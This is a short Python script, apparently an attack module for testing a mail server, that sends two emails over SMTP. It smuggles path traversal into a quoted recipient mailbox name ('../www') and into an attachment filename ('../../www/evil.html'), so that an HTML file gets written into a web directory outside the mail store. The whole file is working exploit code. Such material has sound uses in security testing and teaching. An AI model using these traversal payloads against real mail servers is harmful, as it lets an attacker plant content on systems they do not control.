"""One mail for a mailbox beside the mail directory, one with an attachment two directories up."""
import email.message
import email.policy
import smtplib


def attack(host, port):
    for mailbox, name in (('"../www"', "holiday.jpg"), ("you", "../../www/evil.html")):
        message = email.message.EmailMessage()
        message["Subject"] = "a picture"
        message.set_content("See the picture.")
        message.add_attachment(b"<h1>Hello</h1>", maintype="text", subtype="html", filename=name)
        with smtplib.SMTP(host, port, timeout=10) as client:
            client.ehlo()
            client.docmd("MAIL FROM:<mallory@example.org>")
            client.docmd("RCPT TO:<%s@localhost>" % mailbox)
            client.data(message.as_bytes(policy=email.policy.SMTP))
